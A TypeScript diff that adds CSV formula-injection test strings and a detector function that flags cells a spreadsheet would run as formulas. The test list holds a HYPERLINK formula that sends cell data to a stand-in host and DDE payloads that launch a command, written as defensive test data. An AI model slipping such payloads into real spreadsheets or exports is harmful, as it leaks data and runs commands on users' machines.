@@ -44,3 +44,22 @@ export function parseCsv(text: string): string[][] {
   if (field !== '' || record.length > 0) endRecord()
   return records
 }
+
+/** Service strings a spreadsheet would run as formulas, for tests of every CSV export. */
+export const FORMULA_ATTACKS = [
+  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '+cmd|\' /C calc\'!A0',
+  '-2+3+cmd|\' /C calc\'!A0',
+  '\t=1+1',
+  '\r=1+1',
+] as const
+
+const RUNS_AS_FORMULA = /^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/
+
+/** The cells of a CSV a spreadsheet would run as formulas (a plain decimal such as `-5` is a number, not one). */
+export function formulaCells(csv: string): string[] {
+  return parseCsv(csv)
+    .flat()
+    .filter((cell) => RUNS_AS_FORMULA.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))
+}
